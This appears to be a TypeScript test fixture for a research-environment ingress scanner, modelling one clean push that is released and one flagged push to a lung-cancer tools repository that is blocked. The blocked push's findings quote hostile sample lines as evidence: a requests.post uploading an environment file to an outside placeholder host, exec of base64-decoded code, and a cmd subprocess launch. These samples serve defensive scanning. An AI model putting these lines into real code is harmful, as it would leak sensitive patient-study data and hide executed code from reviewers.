import { createHash } from 'node:crypto';
import { resultOfFindings } from '../../common';
import type { Finding, Push, RequestState } from '../../common';
import { ENVIRONMENTS } from '../../simulator/environment';

const { lung, diabetes } = ENVIRONMENTS;
const NEW_REF = '0'.repeat(40);

export interface IngressStory {
  project: string;
  title: string;
  push: Push;
  findings: Finding[];
  result: ReturnType<typeof resultOfFindings>;
  next: 'nothing' | 'release';
  ends: RequestState;
}

const objectId = (text: string) => createHash('sha1').update(text).digest('hex');

function push(about: { repository: string; pusher: string; files: number; messages: string[] }): Push {
  const { repository, pusher, files, messages } = about;
  const commits = messages.map((message) => ({
    id: objectId(`${repository} ${message}`),
    author: { name: pusher, email: `${pusher}@example.org` },
    message,
  }));
  return {
    repository,
    ref: 'refs/heads/main',
    before: NEW_REF,
    after: commits[0]?.id ?? NEW_REF,
    commits,
    pusher,
    files,
    permalink: `https://git.example.org/${repository}/src/commit/{commit}/{file}#L{line}`,
  };
}

const good = push({
  repository: 'diabetes-cohort/analysis',
  pusher: diabetes.analyst.name,
  files: 9,
  messages: ['Bootstrap the confidence intervals', 'Read the cohort in chunks'],
});

const bad = push({
  repository: 'lung-cancer/tools',
  pusher: lung.analyst.name,
  files: 3,
  messages: ['Send the summary to the partner group', 'Add a helper'],
});

const badFindings: Finding[] = [
  {
    rule: 'ingress/exfiltration',
    level: 'error',
    message: 'The code sends a file of the environment to an address outside.',
    evidence: 'requests.post("https://files.example.org/in", files={"f": open(path, "rb")})',
    risk: { feasibility: 4, severity: 5 },
    help: 'Results leave through the egress share, where a person looks at them.',
    file: 'tools/sync_results.py',
    line: 41,
    commit: bad.after,
  },
  {
    rule: 'ingress/encoded-code',
    level: 'error',
    message: 'Encoded text is decoded and run, so that nobody can read what it does.',
    evidence: 'exec(base64.b64decode("aW1wb3J0IHN1YnByb2Nlc3M7…"))',
    risk: { feasibility: 5, severity: 5 },
    help: 'Write the code in the open.',
    file: 'tools/helper.py',
    line: 7,
    commit: bad.after,
  },
  {
    rule: 'ingress/process-start',
    level: 'warning',
    message: 'The code starts another program.',
    evidence: 'subprocess.Popen(["cmd", "/c", command])',
    risk: { feasibility: 3, severity: 3 },
    file: 'tools/helper.py',
    line: 19,
    commit: bad.after,
  },
];

const story = (about: Omit<IngressStory, 'result'>): IngressStory => ({
  ...about,
  result: resultOfFindings(about.findings),
});

/** Two pushes: one that is delivered without a person, as its project allows, and one that is stopped. */
export const INGRESS: readonly IngressStory[] = [
  story({
    project: diabetes.projectId,
    title: 'Push to diabetes-cohort/analysis',
    push: good,
    findings: [],
    next: 'release',
    ends: 'released',
  }),
  story({
    project: lung.projectId,
    title: 'Push to lung-cancer/tools',
    push: bad,
    findings: badFindings,
    next: 'nothing',
    ends: 'blocked_by_scan',
  }),
];
